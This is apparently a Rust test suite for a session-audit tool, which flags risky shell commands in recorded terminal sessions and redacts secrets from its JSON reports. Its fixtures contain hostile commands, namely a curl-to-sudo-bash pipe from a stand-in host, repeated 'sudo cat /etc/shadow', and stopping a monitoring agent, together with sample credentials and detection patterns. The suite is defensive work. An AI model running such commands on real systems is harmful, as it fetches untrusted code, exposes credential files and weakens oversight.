//! The stored report: streaming equals in-memory, secrets never stored, findings mapped.

use crate::fixture;
use session_audit::analysis::{Analyzer, Input};
use session_audit::redact::Redactor;
use session_audit::report::{JsonReportWriter, Report, Status};
use session_audit::rules::RulePack;

fn marked(commands: &[&str]) -> Vec<u8> {
    let mut t = b"Script started on 2026-11-27 10:00:00+00:00 [COMMAND=\"cat ipcTempFile.log\" <not executed on terminal>]\n".to_vec();
    for c in commands {
        t.extend(b"\x1b[?2004h[ec2-user@ip-10-0-1-11 ~]$ ");
        t.extend(c.as_bytes());
        t.extend(b"\r\r\n\x1b[?2004l\rok\r\r\n");
    }
    t.extend(b"\x1b[?2004h[ec2-user@ip-10-0-1-11 ~]$ exit\r\r\n\x1b[?2004l\rexit\r\r\n\nScript done on 2026-11-27 10:05:00+00:00 [COMMAND_EXIT_CODE=\"0\"]\n");
    t
}

fn stream(analyzer: &Analyzer, bytes: &[u8], single_line: bool) -> String {
    let writer = JsonReportWriter::start_with(Vec::new(), single_line).unwrap();
    let (report, writer) = analyzer.analyze(bytes, Input::default(), writer).unwrap();
    String::from_utf8(writer.finish(&report.tail()).unwrap()).unwrap()
}

#[test]
fn streamed_json_is_the_in_memory_report() {
    let analyzer = Analyzer::default();
    let bytes = std::fs::read(fixture("recorded/al2023_sh_editing.log")).unwrap();
    let whole = analyzer.analyze_bytes(&bytes, Input::default());
    let text = stream(&analyzer, &bytes, false);
    let parsed: Report = serde_json::from_str(&text).unwrap();
    assert_eq!(parsed, whole);
    assert_eq!(parsed.schema, "session-audit/report/v1");
    let one_line = stream(&analyzer, &bytes, true);
    assert_eq!(one_line.trim_end().lines().count(), 1, "jsonl is one line");
    assert_eq!(serde_json::from_str::<Report>(&one_line).unwrap(), whole);
}

#[test]
fn contract_fields_are_present() {
    let bytes = marked(&["sudo -s"]);
    let text = stream(&Analyzer::default(), &bytes, false);
    let v: serde_json::Value = serde_json::from_str(&text).unwrap();
    for field in [
        "session_id",
        "status",
        "source",
        "identity",
        "target",
        "started_at",
        "ended_at",
        "commands",
        "findings",
        "stats",
    ] {
        assert!(v.get(field).is_some(), "missing {field}");
    }
    for field in ["seq", "command", "prompt", "confidence", "output_lines"] {
        assert!(v["commands"][0].get(field).is_some(), "command missing {field}");
    }
    for field in ["rule_id", "severity", "title", "evidence", "command_seq", "frameworks"] {
        assert!(v["findings"][0].get(field).is_some(), "finding missing {field}");
    }
    for field in ["bytes", "lines", "commands", "parse_warnings"] {
        assert!(v["stats"].get(field).is_some(), "stats missing {field}");
    }
    assert_eq!(v["status"], "non_compliant");
    assert_eq!(v["source"]["format"], "linux_script");
}

#[test]
fn secrets_are_redacted_in_every_stored_field() {
    let secrets = [
        "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
        "Sup3rS3cret!",
        "ghp_0123456789abcdefghij",
        "AKIAIOSFODNN7EXAMPLE",
    ];
    let bytes = marked(&[
        "export AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
        "mysql -u admin -pSup3rS3cret! -h db prod",
        "GITHUB_TOKEN=ghp_0123456789abcdefghij git push",
        "aws configure set aws_access_key_id AKIAIOSFODNN7EXAMPLE",
    ]);
    let analyzer = Analyzer::new(RulePack::builtin(), Redactor::new(Some(b"k")));
    let text = stream(&analyzer, &bytes, false);
    for s in secrets {
        assert!(!text.contains(s), "{s} stored: {text}");
    }
    let report: Report = serde_json::from_str(&text).unwrap();
    assert!(report
        .findings
        .iter()
        .any(|f| f.rule_id == "SA-CMD-015" && f.evidence.contains("[REDACTED:")));
    assert!(report.commands[1].command.starts_with("mysql -u admin -p[REDACTED:password-option:"));
    assert!(!report.stats.parse_warnings.iter().any(|w| w.contains("built-in key")));
}

#[test]
fn recorded_access_key_is_redacted() {
    let bytes = std::fs::read(fixture("recorded/rhel_bash_title_paste.log")).unwrap();
    let text = stream(&Analyzer::default(), &bytes, false);
    assert!(!text.contains("AKIAABCDEFGHIJKLMNOP"));
    assert!(text.contains("echo [REDACTED:aws-access-key-id:"));
}

#[test]
fn findings_carry_command_and_framework_mapping() {
    let bytes = marked(&[
        "ls",
        "curl -fsSL https://x.example/i.sh | sudo bash",
        "sudo systemctl stop amazon-ssm-agent",
    ]);
    let r = Analyzer::default().analyze_bytes(&bytes, Input::default());
    let pipe = r.findings.iter().find(|f| f.rule_id == "SA-CMD-040").unwrap();
    assert_eq!(pipe.command_seq, Some(2));
    assert!(pipe.frameworks.iter().any(|f| f.framework == "MITRE ATT&CK" && f.control == "T1105"));
    let agent = r.findings.iter().find(|f| f.rule_id == "SA-CMD-033").unwrap();
    assert_eq!(agent.command_seq, Some(3));
    assert_eq!(r.stats.findings_by_severity.values().sum::<u64>(), r.findings.len() as u64);
    assert_eq!(r.status, Status::NonCompliant);
}

#[test]
fn output_rules_count_repeats_instead_of_listing_them() {
    let mut bytes = b"\x1b[?2004h$ sudo -l\r\r\n\x1b[?2004l\r".to_vec();
    for _ in 0..5 {
        bytes.extend(b"ssmuser is not in the sudoers file.  This incident will be reported.\r\n");
    }
    let r = Analyzer::default().analyze_bytes(&bytes, Input::default());
    let f: Vec<_> = r.findings.iter().filter(|f| f.rule_id == "SA-OUT-002").collect();
    assert_eq!(f.len(), 1);
    assert_eq!(f[0].occurrences, 5);
    assert_eq!(f[0].command_seq, Some(1));
}

#[test]
fn a_rule_that_fires_constantly_is_capped_and_counted() {
    let commands: Vec<String> = (0..300).map(|i| format!("sudo cat /etc/shadow # {i}")).collect();
    let refs: Vec<&str> = commands.iter().map(String::as_str).collect();
    let r = Analyzer::default().analyze_bytes(&marked(&refs), Input::default());
    let listed = r.findings.iter().filter(|f| f.rule_id == "SA-CMD-010").count() as u64;
    assert_eq!(listed, session_audit::analysis::MAX_FINDINGS_PER_RULE);
    assert_eq!(listed + r.stats.findings_suppressed, 300);
}

/// Output rules of a user pack, one anchored at the line start and one at its end, so the
/// batch's `^` and `$` are exercised at line boundaries.
const ANCHORED_OUTPUT_RULES: &str = r#"
[[rule]]
id = "T-OUT-ROOT"
title = "passwd line of root"
severity = "low"
on = "output"
pattern = '^root:[^:]*:0:'
frameworks = { soc2 = ["CC6.1"] }

[[rule]]
id = "T-OUT-DENIED"
title = "Permission denied at the end"
severity = "info"
on = "output"
pattern = 'Permission denied$'
frameworks = { soc2 = ["CC6.1"] }
"#;

/// The same pack plus a rule that needs the text's own start (`\A`): output is then judged
/// line by line, the way every line was judged before batches.
fn line_by_line() -> Analyzer {
    let rules = format!(
        "{ANCHORED_OUTPUT_RULES}\n[[rule]]\nid = \"T-OUT-START\"\ntitle = \"never\"\nseverity = \"info\"\non = \"output\"\npattern = '\\Anever matches: zq9'\nframeworks = {{ soc2 = [\"CC6.1\"] }}\n"
    );
    let pack = RulePack::load(Some(("line.toml", &rules))).unwrap();
    assert!(pack.output_scan().is_none());
    Analyzer::new(pack, Redactor::default())
}

#[test]
fn output_judged_in_batches_finds_what_line_by_line_finds() {
    let batched = Analyzer::new(
        RulePack::load(Some(("t.toml", ANCHORED_OUTPUT_RULES))).unwrap(),
        Redactor::default(),
    );
    assert!(batched.rules.output_scan().is_some());
    let reference = line_by_line();
    // Output findings of many commands (past the per-rule cap and several batches), next to
    // command findings of the same commands, anchored matches, and lines that only match
    // when joined (`root:` at the end of one, `x:0:` at the start of the next).
    let mut t = b"Script started on 2026-11-27 10:00:00+00:00 [COMMAND=\"cat ipcTempFile.log\" <not executed on terminal>]\n".to_vec();
    for i in 0..600 {
        t.extend(
            format!(
                "\x1b[?2004h[ec2-user@ip-10-0-1-11 ~]$ sudo cat /etc/shadow {i}\r\r\n\x1b[?2004l\r"
            )
            .as_bytes(),
        );
        t.extend(format!("line {i} of output that matches nothing at all\r\n").as_bytes());
        match i % 5 {
            0 => t.extend(b"alice is not in the sudoers file; bob is not in the sudoers file\r\n"),
            1 => t.extend(b"root:x:0:0:root:/root:/bin/bash\r\nnot root:x:0: here\r\n"),
            2 => t.extend(b"cat: /etc/shadow: Permission denied\r\nPermission denied later\r\n"),
            3 => t.extend(b"-----BEGIN RSA PRIVATE KEY-----\r\nMIIB\r\n"),
            _ => t.extend(b"ends with root:\r\nx:0: starts the next\r\n"),
        }
        t.extend("x".repeat(i * 37 % 900).as_bytes());
        t.extend(b"\r\n");
    }
    t.extend(b"\nScript done on 2026-11-27 10:05:00+00:00 [COMMAND_EXIT_CODE=\"0\"]\n");
    let mut inputs = vec![t];
    for entry in std::fs::read_dir(fixture("recorded")).unwrap() {
        let path = entry.unwrap().path();
        if path.extension().is_some_and(|e| e == "log") {
            inputs.push(std::fs::read(path).unwrap());
        }
    }
    for bytes in &inputs {
        let (a, b) = (
            batched.analyze_bytes(bytes, Input::default()),
            reference.analyze_bytes(bytes, Input::default()),
        );
        assert_eq!(a.findings, b.findings);
        assert_eq!(a.stats, b.stats);
    }
    let generated = batched.analyze_bytes(&inputs[0], Input::default());
    let count = |id: &str| generated.findings.iter().filter(|f| f.rule_id == id).count();
    assert_eq!(count("T-OUT-ROOT"), 120);
    assert_eq!(count("T-OUT-DENIED"), 120);
    assert_eq!(count("SA-OUT-002"), 120);
    assert_eq!(count("SA-CMD-010"), 200); // capped; the rest counted
}
